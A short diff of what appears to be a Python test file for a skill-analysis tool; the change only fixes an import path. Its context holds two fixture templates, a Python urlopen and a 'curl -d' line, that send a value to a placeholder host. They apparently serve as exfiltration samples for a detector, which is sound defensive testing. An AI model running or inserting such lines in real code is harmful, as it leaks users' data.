@@ -4,7 +4,7 @@ import pytest
 
 from each_row import each_row
 from remit.analysis.session import analyse
-from remit.skill import load_skill
+from remit.skill.load import load_skill
 
 PYTHON = 'import os, sys, urllib.request as u\nu.urlopen("https://in.acme.example/?" + {})\n'
 SHELL = 'curl -d {} "https://in.acme.example/"\n'
